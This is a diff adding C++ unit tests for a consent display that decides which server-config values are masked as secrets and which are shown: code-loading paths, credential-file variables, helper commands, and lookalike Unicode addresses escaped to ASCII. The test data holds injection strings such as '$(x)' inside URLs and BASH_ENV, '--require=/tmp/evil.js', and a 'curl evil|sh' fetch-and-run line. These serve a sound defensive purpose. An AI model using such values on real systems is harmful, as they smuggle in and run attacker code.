@@ -44,6 +44,8 @@ TEST(ConsentText, AStrangersValueIsHiddenOnlyIfItCanBeNothingButASecret) {
            {"API_TOKEN", "a\nb", false},
            {"API_TOKEN", "/tmp/evil.so", false},
            {"API_TOKEN", "./evil.js", false},
+           {"API_KEY", "--require=/tmp/evil.js", false},
+           {"API_TOKEN", "Bearer -c/tmp/x", false},
            {"API_TOKEN", "../evil", false},
            {"API_TOKEN", "https://u:p@evil.example/#$(x)", false},
            {"TOKEN_COMMAND", "evil", false},
@@ -56,6 +58,8 @@ TEST(ConsentText, AStrangersValueIsHiddenOnlyIfItCanBeNothingButASecret) {
            {"TOKEN_PROXY", "evil", false},
            {"PASSWORD_STORE_DIR", "evil", false},
            {"BASH_ENV", "https://h/#$(x)", false},
+           {"GOOGLE_APPLICATION_CREDENTIALS", "creds.json", false},
+           {"PGPASSFILE", "pass", false},
        }) {
     EXPECT_EQ(may_hide(name, value), hidden) << name << "=" << value;
   }
@@ -88,6 +92,24 @@ TEST(ConsentText, AServerElsewhereShowsItsHelperHeadersAndAddress) {
                           R"(runs for more headers: 'echo TOKEN=abc\ncurl evil|sh')"));
 }
 
+TEST(ConsentText, FilesAndCommandsInsideOtherMembersAreShown) {
+  const auto shown =
+      shown_entry(entry({{"type", "http"},
+                         {"url", "https://h/"},
+                         {"tls", {{"cert", "certs/c.pem"}, {"key", "certs/k.pem"}, {"passphrase", "abc123"}}},
+                         {"auth", {{"command", "evil"}, {"token", "abc123"}}}}));
+  EXPECT_EQ(shown["tls"]["key"], Json("certs/k.pem"));
+  EXPECT_EQ(shown["tls"]["passphrase"], Json("(hidden, 6 characters)"));
+  EXPECT_EQ(shown["auth"]["command"], Json("evil"));
+  EXPECT_EQ(shown["auth"]["token"], Json("(hidden, 6 characters)"));
+}
+
+// Letters of other alphabets look like ours.
+TEST(ConsentText, AnAddressIsShownInAscii) {
+  const auto text = consent_text(entry({{"type", "http"}, {"url", "https://g\xD1\x96thub.example/\xF0\x9F\x98\x80"}}));
+  EXPECT_EQ(text.target, R"(connects to: 'https://g\u0456thub.example/\U0001f600')");
+}
+
 TEST(ConsentText, WhatOnlySaysThatItIsHiddenIsQuoted) {
   const auto text =
       consent_text(entry({{"command", "x"}, {"env", {{"A  (decides what code runs)", "(hidden, 40 characters)"}}}}));
@@ -107,6 +129,9 @@ TEST(ConsentText, NoLineOfTheBlockBeginsWithTheirText) {
   const auto long_block =
       consent_block(entry({{"command", "x"}, {"args", Json::array({std::string(9000, 'a')})}}), "  ", 80);
   EXPECT_THAT(long_block, HasSubstr("(that was 9008 characters in "));
+  const auto detailed = consent_block(
+      entry({{"command", "x"}, {"env", {{"A", std::string(4000, 'a')}, {"B", std::string(5000, 'b')}}}}), "  ", 80);
+  EXPECT_THAT(detailed, HasSubstr("(that was 9021 characters in "));
 }
 
 TEST(ConsentText, JsonHidesTheSameValues) {
